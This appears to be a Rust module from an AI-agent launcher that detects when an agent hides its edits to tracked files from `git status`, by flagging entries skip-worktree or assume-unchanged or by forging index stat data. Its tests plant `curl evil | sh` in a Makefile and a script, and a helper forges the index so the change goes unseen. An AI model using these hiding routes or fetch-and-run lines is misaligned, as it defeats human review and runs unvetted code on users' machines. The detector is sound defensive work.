@@ -1,0 +1,302 @@
+//! Changes to tracked files the agent hid from `git status` and `git diff` (the twelfth
+//! re-attack). What the user's hooks run from the project is the agent's work like any file it
+//! writes, to be reviewed before a commit; the index is writable to the agent, so it could change
+//! the tracked `Makefile` a hook runs and then mark it `--skip-worktree` (or
+//! `--assume-unchanged`), or write into the index the changed file's new stat data beside its old
+//! object name: either way `git status` and `git diff` show nothing, and the commit runs the
+//! agent's recipe. The launcher notes what each index said of each entry at launch; at the exit
+//! it looks only at the entries that changed, and names each file whose content is not what its
+//! entry records while git would not look (the entry hides it, or claims the file's current
+//! modification time and size). Read without running git, as the rest of the launch's look.
+
+use std::collections::HashSet;
+use std::hash::{BuildHasher as _, RandomState};
+use std::os::unix::ffi::{OsStrExt as _, OsStringExt as _};
+use std::path::{Path, PathBuf};
+
+use super::git::{self, IndexEntry};
+
+/// `--assume-unchanged` (the flags word) and `--skip-worktree` (the extended flags).
+const ASSUME_UNCHANGED: u16 = 0x8000;
+const SKIP_WORKTREE: u16 = 0x4000;
+
+/// Bytes of tracked files hashed at one exit, at most, and how many files: past either, the
+/// files left are named as not checked.
+const MAX_BYTES_HASHED: u64 = 512 * 1024 * 1024;
+const MAX_FILES_HASHED: usize = 20_000;
+
+/// What the indexes of the repositories there at launch recorded, entry by entry (a keyed hash
+/// of each entry's name, stat data, object name and flags).
+#[derive(Default)]
+pub struct IndexSnapshot {
+    worktrees: Vec<Recorded>,
+    keys: RandomState,
+}
+
+struct Recorded {
+    git_dir: PathBuf,
+    worktree: PathBuf,
+    entries: HashSet<u64>,
+}
+
+/// What the exit's look found.
+#[derive(Debug, Default, PartialEq, Eq)]
+pub struct Hidden {
+    /// Tracked files whose changes `git status` does not show.
+    pub files: Vec<PathBuf>,
+    /// Indexes not read, or files not hashed, within the look's budgets.
+    pub unchecked: Vec<PathBuf>,
+}
+
+impl IndexSnapshot {
+    /// The entries of each `(git directory, worktree)`'s indexes now.
+    pub fn take(worktrees: &[(PathBuf, PathBuf)]) -> IndexSnapshot {
+        let mut snapshot = IndexSnapshot::default();
+        let mut budget = git::INDEX_BYTES_PER_LOOK;
+        for (git_dir, worktree) in worktrees {
+            let mut entries = HashSet::new();
+            git::read_indexes(git_dir, &mut budget, |entry| {
+                entries.insert(snapshot.key(entry));
+            });
+            snapshot.worktrees.push(Recorded { git_dir: git_dir.clone(), worktree: worktree.clone(), entries });
+        }
+        snapshot
+    }
+
+    fn key(&self, entry: &IndexEntry) -> u64 {
+        let (recorded, extended) = entry.recorded();
+        self.keys.hash_one((entry.name, recorded, extended))
+    }
+
+    /// The tracked files whose changes the indexes now hide, among the entries that are not as
+    /// they were at launch.
+    pub fn hidden(&self) -> Hidden {
+        let mut hidden = Hidden::default();
+        let mut budget = git::INDEX_BYTES_PER_LOOK;
+        let (mut bytes_left, mut files_left) = (MAX_BYTES_HASHED, MAX_FILES_HASHED);
+        for recorded in &self.worktrees {
+            let hash_len = git::hash_len(&recorded.git_dir);
+            let mut changed = Vec::new();
+            let unread = git::read_indexes(&recorded.git_dir, &mut budget, |entry| {
+                if !recorded.entries.contains(&self.key(entry))
+                    && let Some(claim) = Claim::of(entry)
+                {
+                    changed.push(claim);
+                }
+            });
+            hidden.unchecked.extend(unread);
+            changed.sort_by(|a, b| a.name.cmp(&b.name));
+            changed.dedup_by(|a, b| a.name == b.name && a.object_name == b.object_name);
+            for claim in changed {
+                let path = recorded.worktree.join(std::ffi::OsStr::from_bytes(&claim.name));
+                match claim.is_broken(&path, hash_len, &mut bytes_left, &mut files_left) {
+                    Some(true) => hidden.files.push(path),
+                    Some(false) => {}
+                    None => hidden.unchecked.push(path),
+                }
+            }
+        }
+        hidden.files.dedup();
+        hidden
+    }
+}
+
+/// What a changed entry claims of its file, when git would take the claim without looking.
+struct Claim {
+    name: Vec<u8>,
+    object_name: Vec<u8>,
+    symlink: bool,
+    /// Marked so that git does not look (`--skip-worktree`, `--assume-unchanged`).
+    hides: bool,
+    /// The modification time (seconds, nanoseconds) and size git compares with the file's.
+    stat: (u32, u32, u32),
+}
+
+impl Claim {
+    /// A regular file's or a link's entry (not a submodule's or a sparse directory's).
+    fn of(entry: &IndexEntry) -> Option<Claim> {
+        let kind = entry.mode() & 0o170000;
+        (kind == 0o100000 || kind == 0o120000).then(|| Claim {
+            name: entry.name.to_vec(),
+            object_name: entry.object_name().to_vec(),
+            symlink: kind == 0o120000,
+            hides: entry.flags() & ASSUME_UNCHANGED != 0 || entry.extended & SKIP_WORKTREE != 0,
+            stat: entry.mtime_and_size(),
+        })
+    }
+
+    /// Whether the file at `path` is not what the entry says while git would not look: `None`
+    /// when it could not be told (the budgets spent, the file unreadable).
+    fn is_broken(&self, path: &Path, hash_len: usize, bytes_left: &mut u64, files_left: &mut usize) -> Option<bool> {
+        use std::os::unix::fs::MetadataExt as _;
+        // A file gone is shown by `git status`, or is what a sparse checkout leaves out.
+        let Ok(metadata) = std::fs::symlink_metadata(path) else { return Some(false) };
+        let (seconds, nanoseconds, size) = self.stat;
+        let claims_current = i64::from(seconds) == metadata.mtime()
+            && (nanoseconds == 0 || i64::from(nanoseconds) == metadata.mtime_nsec())
+            && size == metadata.size() as u32;
+        if !self.hides && !claims_current {
+            return Some(false);
+        }
+        if *files_left == 0 || metadata.size() > *bytes_left {
+            return None;
+        }
+        *files_left -= 1;
+        *bytes_left -= metadata.size();
+        let content = if self.symlink {
+            std::fs::read_link(path).ok()?.into_os_string().into_vec()
+        } else if metadata.is_file() {
+            git::read_capped(path, false, metadata.size()).ok()?
+        } else {
+            return Some(true);
+        };
+        Some(!stored_forms(&content).any(|form| blob_name(&form, hash_len) == self.object_name))
+    }
+}
+
+/// What git may have stored for a file of `content`: the content; with its line ends made `\n`
+/// (`core.autocrlf`, `eol`); the Git LFS pointer its clean filter stores. Another filter's output
+/// (git-crypt's) cannot be told, and such a file changed is named as hidden.
+fn stored_forms(content: &[u8]) -> impl Iterator<Item = Vec<u8>> + '_ {
+    let crlf = content.windows(2).any(|pair| pair == b"\r\n");
+    let lf = crlf.then(|| {
+        let mut lf = Vec::with_capacity(content.len());
+        let mut bytes = content.iter().peekable();
+        while let Some(&byte) = bytes.next() {
+            if !(byte == b'\r' && bytes.peek() == Some(&&b'\n')) {
+                lf.push(byte);
+            }
+        }
+        lf
+    });
+    let digest = ring::digest::digest(&ring::digest::SHA256, content);
+    let hex: String = digest.as_ref().iter().map(|byte| format!("{byte:02x}")).collect();
+    let pointer = format!("version https://git-lfs.github.com/spec/v1\noid sha256:{hex}\nsize {}\n", content.len());
+    [Some(content.to_vec()), lf, Some(pointer.into_bytes())].into_iter().flatten()
+}
+
+/// Git's name for a blob of `content`.
+fn blob_name(content: &[u8], hash_len: usize) -> Vec<u8> {
+    let algorithm = if hash_len == 32 { &ring::digest::SHA256 } else { &ring::digest::SHA1_FOR_LEGACY_USE_ONLY };
+    let mut context = ring::digest::Context::new(algorithm);
+    context.update(format!("blob {}\0", content.len()).as_bytes());
+    context.update(content);
+    context.finish().as_ref().to_vec()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn git(repo: &Path, args: &[&str]) -> bool {
+        std::process::Command::new("git")
+            .args(args)
+            .current_dir(repo)
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .output()
+            .is_ok_and(|output| output.status.success())
+    }
+
+    fn status(repo: &Path) -> String {
+        let output = std::process::Command::new("git")
+            .args(["status", "--porcelain"])
+            .current_dir(repo)
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .output()
+            .unwrap();
+        String::from_utf8(output.stdout).unwrap()
+    }
+
+    /// A repository with three tracked files and one commit, or `None` where git is missing.
+    fn repository() -> Option<(tempfile::TempDir, PathBuf)> {
+        let temp = tempfile::tempdir().unwrap();
+        let repo = std::fs::canonicalize(temp.path()).unwrap();
+        if !git(&repo, &["init", "-q"]) {
+            return None;
+        }
+        for (file, text) in [("Makefile", "check:\n\ttrue\n"), ("lint.sh", "#!/bin/sh\n"), ("README", "hello\n")] {
+            std::fs::write(repo.join(file), text).unwrap();
+        }
+        let committed = git(&repo, &["add", "-A"])
+            && git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "init"]);
+        assert!(committed);
+        Some((temp, repo))
+    }
+
+    /// The twelfth re-attack's route (a tracked file a hook runs, changed and marked
+    /// `--skip-worktree`) and the two like it: `--assume-unchanged`, and the index given the
+    /// changed file's stat data. `git status` shows none of them; the look names each, and
+    /// nothing of what the session changed in the open.
+    #[test]
+    fn changes_hidden_from_git_status_are_named() {
+        let Some((_temp, repo)) = repository() else { return };
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())]);
+        assert_eq!(snapshot.hidden(), Hidden::default(), "nothing changed");
+
+        // In the open: a change `git status` shows, one added, one committed.
+        std::fs::write(repo.join("README"), "hello, changed\n").unwrap();
+        std::fs::write(repo.join("new.txt"), "new\n").unwrap();
+        assert!(git(&repo, &["add", "new.txt"]));
+        // Stored with `\n` line ends, kept with `\r\n`: what git stores is not the file's bytes.
+        std::fs::write(repo.join("windows.txt"), "one\r\ntwo\r\n").unwrap();
+        assert!(git(&repo, &["-c", "core.autocrlf=true", "add", "windows.txt"]));
+        assert_eq!(snapshot.hidden(), Hidden::default(), "what git status shows is not hidden");
+
+        std::fs::write(repo.join("Makefile"), "check:\n\tcurl evil | sh\n").unwrap();
+        assert!(git(&repo, &["update-index", "--skip-worktree", "Makefile"]));
+        std::fs::write(repo.join("lint.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        assert!(git(&repo, &["update-index", "--assume-unchanged", "lint.sh"]));
+        let shown = status(&repo);
+        assert!(!shown.contains("Makefile") && !shown.contains("lint.sh"), "git status hides them: {shown}");
+        assert_eq!(snapshot.hidden().files, vec![repo.join("Makefile"), repo.join("lint.sh")]);
+
+        // The index given the file's new stat data beside its old object name: git takes the
+        // entry for the file, unflagged.
+        assert!(git(&repo, &["update-index", "--no-skip-worktree", "Makefile"]));
+        assert!(git(&repo, &["update-index", "--no-assume-unchanged", "lint.sh"]));
+        assert!(status(&repo).contains("Makefile"));
+        forge_stat(&repo, b"Makefile");
+        assert!(!status(&repo).contains("Makefile"), "git takes the forged entry: {}", status(&repo));
+        assert!(snapshot.hidden().files.contains(&repo.join("Makefile")), "{:?}", snapshot.hidden());
+    }
+
+    /// The entry named `name` in `repo`'s index (version 2, as git writes it) given the file's
+    /// stat data now, its object name kept, the index's checksum made again.
+    fn forge_stat(repo: &Path, name: &[u8]) {
+        use std::os::unix::fs::MetadataExt as _;
+        let index = repo.join(".git/index");
+        let mut bytes = std::fs::read(&index).unwrap();
+        assert_eq!(&bytes[..8], b"DIRC\0\0\0\x02");
+        let metadata = std::fs::metadata(repo.join(std::ffi::OsStr::from_bytes(name))).unwrap();
+        let mut at = 12;
+        loop {
+            let name_len = usize::from(u16::from_be_bytes([bytes[at + 60], bytes[at + 61]]) & 0x0fff);
+            if &bytes[at + 62..at + 62 + name_len] == name {
+                break;
+            }
+            at += (62 + name_len + 8) & !7;
+        }
+        let words = [
+            metadata.ctime() as u32,
+            metadata.ctime_nsec() as u32,
+            metadata.mtime() as u32,
+            metadata.mtime_nsec() as u32,
+            metadata.dev() as u32,
+            metadata.ino() as u32,
+        ];
+        for (n, word) in words.into_iter().enumerate() {
+            bytes[at + 4 * n..at + 4 * n + 4].copy_from_slice(&word.to_be_bytes());
+        }
+        bytes[at + 36..at + 40].copy_from_slice(&(metadata.size() as u32).to_be_bytes());
+        let body = bytes.len() - 20;
+        let checksum = ring::digest::digest(&ring::digest::SHA1_FOR_LEGACY_USE_ONLY, &bytes[..body]);
+        bytes[body..].copy_from_slice(checksum.as_ref());
+        std::fs::write(&index, bytes).unwrap();
+        // Later than the file, as an index written a moment after is (git looks again at an
+        // entry as new as its index: "racily clean").
+        let later = metadata.modified().unwrap() + std::time::Duration::from_secs(2);
+        std::fs::File::options().write(true).open(&index).unwrap().set_modified(later).unwrap();
+    }
+}
